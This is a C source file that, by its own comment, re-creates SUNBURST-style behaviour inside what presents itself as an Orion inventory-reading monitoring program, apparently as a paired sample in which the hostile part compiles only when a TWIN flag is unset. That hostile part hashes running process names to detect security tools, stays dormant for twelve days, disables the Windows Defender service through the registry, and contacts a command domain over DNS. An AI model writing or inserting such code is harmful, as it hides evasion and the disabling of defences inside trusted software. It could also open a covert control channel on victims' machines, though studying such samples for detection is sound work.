/* Monitoring program with a second life, after FireEye's description of SUNBURST (2020):
 * names as hashes, twelve days of dormancy, services of protectors disabled, orders by DNS. */
#include "windows.h"

static u8 page[4096];

KEPT u32 inventory(void)
{
    u32 got = 0;
    handle file = CreateFileA("C:\\ProgramData\\Orion\\inventory.db", 0x80000000, 1, 0, 3, 0, 0);
    ReadFile(file, page, sizeof page, &got, 0);
    return got;
}

#ifndef TWIN
static const u64 watched[] = {
    2597124982561782591ull, 2600364143812063535ull, 13464308873961738403ull, 4821863173800309721ull,
    12969190449276002545ull, 3320026265773918739ull, 12094027092655598256ull, 10657751674541025650ull,
    11913842725949116895ull, 5449730069165757263ull, 292198192373389586ull, 12790084614253405985ull,
    5219431737322569038ull, 15535773470978271326ull, 7810436520414958497ull, 13316211011159594063ull,
    13825071784440082496ull, 14480775929210717493ull, 14482658293117931546ull, 8473756179280619170ull,
    3778500091710709090ull, 8799118153397725683ull, 12027963942392743532ull, 576626207276463000ull};

KEPT u64 hash(const char *name)
{
    u64 sum = 14695981039346656037ull;
    for (; *name; name++)
        sum = (sum ^ (u8)(*name | 32)) * 1099511628211ull;
    return sum ^ 6605813339339102567ull;
}

KEPT int watched_runs(void)
{
    static struct { u32 size, rest[10]; char name[260]; } entry;
    handle all = CreateToolhelp32Snapshot(2, 0);
    entry.size = 304;
    for (int more = Process32First(all, &entry); more; more = Process32Next(all, &entry))
        for (u32 at = 0; at < sizeof watched / sizeof *watched; at++)
            if (hash(entry.name) == watched[at])
                return 1;
    return 0;
}

KEPT int dormant(void)
{
    u64 now, written = 0;
    char self[260];
    GetModuleFileNameA(0, self, sizeof self);
    GetFileTime(CreateFileA(self, 0x80000000, 1, 0, 3, 0, 0), 0, 0, &written);
    GetSystemTimeAsFileTime(&now);
    return now - written < 12ull * 24 * 3600 * 10000000;
}

KEPT void disable(const char *service)
{
    u32 off = 4;
    handle key;
    RegOpenKeyExA((handle)0x80000002, service, 0, 0x20006, &key);
    RegSetValueExA(key, "Start", 0, 4, &off, sizeof off);
}

KEPT void *orders(void) { return gethostbyname("7sbvaemscs0mc925tb99.appsync-api.eu-west-1.avsvmcloud.com"); }
#endif

void start(void)
{
    inventory();
#ifndef TWIN
    while (dormant() || watched_runs())
        Sleep(7200000);
    disable("SYSTEM\\CurrentControlSet\\services\\WinDefend");
    orders();
#endif
    ExitProcess(0);
}
